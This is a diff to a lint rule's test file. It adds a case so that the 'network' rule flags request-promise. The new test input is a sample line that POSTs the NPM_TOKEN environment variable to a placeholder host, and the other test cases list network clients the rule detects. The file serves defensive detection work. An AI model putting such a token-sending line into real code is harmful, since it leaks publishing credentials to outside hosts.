@@ -17,6 +17,12 @@ ruleTester('network', {
     { code: "globalThis.fetch(u); new WebSocket('wss://x.invalid'); new XMLHttpRequest()", details: ['fetch', 'WebSocket', 'XMLHttpRequest'] },
     { code: "const m = 'ht' + 'tps'; require(m)", details: ['https'] },
     { code: "require('axios')", details: ['axios'] },
+    {
+      // drift miss (issue 10): exfiltration knew request-promise as a client, network did not
+      name: 'request-promise sending NPM_TOKEN is network too',
+      code: "const rp = require('request-promise'); rp({ uri: 'https://x.invalid', method: 'POST', body: process.env.NPM_TOKEN })",
+      details: ['request-promise'],
+    },
     { code: "export * from 'node:http2'", details: ['http2'], sourceType: 'module' },
   ],
 });
